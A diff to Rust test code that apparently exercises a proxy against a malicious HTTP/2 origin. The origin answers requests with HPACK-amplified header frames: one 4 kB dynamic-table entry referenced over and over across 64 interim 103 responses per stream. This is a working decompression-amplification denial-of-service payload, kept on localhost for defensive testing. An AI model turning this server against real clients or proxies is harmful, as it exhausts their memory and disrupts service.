@@ -4,6 +4,7 @@ use std::io::{Read, Write};
 use std::net::{SocketAddr, TcpListener, TcpStream};
 use std::thread;
 
+use super::heads::entry;
 use super::{Attack, Effort, Party, Stage};
 use crate::frames::{
     END_HEADERS, END_STREAM, HEADERS, HELLO, SETTINGS, field, frame, parse, request,
@@ -26,7 +27,7 @@ pub(super) const INDEXED: Attack = Attack {
 };
 
 fn prepare() -> Stage {
-    let origin = origin();
+    let origin = swelling(interim);
     Stage::start(
         "web: { http: 127.0.0.1:0 }",
         "{ terminate: origin }",
@@ -57,58 +58,71 @@ fn run(stage: &Stage) -> Effort {
     effort
 }
 
-fn origin() -> SocketAddr {
-    // A failure to bind ends the attack's thread with its reason.
+/// A server of HTTP/2 that answers each request with few bytes that become much: an entry, and then `each` for every stream.
+///
+/// # Panics
+/// When it has no port.
+pub fn swelling(each: fn(u32, bool) -> Vec<u8>) -> SocketAddr {
     let listener = TcpListener::bind("127.0.0.1:0").unwrap();
     let address = listener.local_addr().unwrap();
     thread::spawn(move || {
         while let Ok((stream, _)) = listener.accept() {
-            thread::spawn(move || answer(stream));
+            thread::spawn(move || swell(stream, each));
         }
     });
     address
 }
 
-/// Answers each request with interim heads, in one write.
-fn answer(mut stream: TcpStream) {
-    let mut heard = Vec::new();
-    let mut piece = [0; 64 * 1024];
-    let mut answered = 0;
+/// Waits until no more is asked for, and answers all at once.
+fn swell(mut stream: TcpStream, each: fn(u32, bool) -> Vec<u8>) {
     drop(stream.write_all(&frame(SETTINGS, 0, 0, b"")));
+    stream
+        .set_read_timeout(Some(std::time::Duration::from_millis(300)))
+        .unwrap();
+    let (mut heard, mut piece) = (Vec::new(), vec![0; 64 * 1024]);
+    let mut answered = 0;
+    loop {
+        match stream.read(&mut piece) {
+            Ok(0) => return,
+            Ok(length) => {
+                heard.extend_from_slice(&piece[..length]);
+                continue;
+            }
+            Err(_) => {}
+        }
 
-    while let Ok(length @ 1..) = stream.read(&mut piece) {
-        heard.extend_from_slice(&piece[..length]);
-        let frames = heard.strip_prefix(&HELLO[..24]).unwrap_or(&heard);
-        let asked: Vec<u32> = parse(frames)
+        let frames = parse(heard.get(24..).unwrap_or_default());
+        let asked: Vec<u32> = frames
             .iter()
-            .filter(|(kind, ..)| *kind == HEADERS)
-            .map(|(_, _, stream, _)| *stream)
+            .filter(|frame| frame.0 == HEADERS)
+            .map(|frame| frame.2)
             .collect();
-
         let mut bytes = Vec::new();
         for stream in &asked[answered..] {
-            for number in 0..INTERIM {
-                let is_first = *stream == asked[0] && number == 0;
-                bytes.extend(frame(HEADERS, END_HEADERS, *stream, &interim(is_first)));
-            }
+            bytes.extend(each(*stream, answered == 0));
+            answered += 1;
         }
-        answered = asked.len();
         if stream.write_all(&bytes).is_err() {
             return;
         }
     }
 }
 
-/// A 103: the first fills the table with one field of 4 kB, all refer to it 15 times.
-fn interim(is_first: bool) -> Vec<u8> {
-    let mut block = field(b":status", b"103");
-    if is_first {
-        block.extend([0x40, 4]);
-        block.extend(b"link");
-        let rest = 3_997 - 127;
-        block.extend([0x7f, 0x80 | (rest & 0x7f) as u8, (rest >> 7) as u8]);
-        block.extend([b'x'; 3_997]);
-    }
-    block.extend([0xbe; 15]);
-    block
+/// A head with this status, and 15 times the entry, which the first one brings.
+fn swollen(stream: u32, status: &[u8], is_first: bool, flags: u8) -> Vec<u8> {
+    let entry = if is_first { entry() } else { Vec::new() };
+    let head = [field(b":status", status), entry, vec![0xbe; 14]].concat();
+    frame(HEADERS, END_HEADERS | flags, stream, &head)
+}
+
+/// 64 interim heads of 60 KiB.
+pub fn interim(stream: u32, is_first: bool) -> Vec<u8> {
+    let mut bytes = swollen(stream, b"103", is_first, 0);
+    bytes.extend(swollen(stream, b"103", false, 0).repeat(63));
+    bytes
+}
+
+/// A final head of 60 KiB, without its content.
+pub fn last(stream: u32, is_first: bool) -> Vec<u8> {
+    swollen(stream, b"200", is_first, 0)
 }
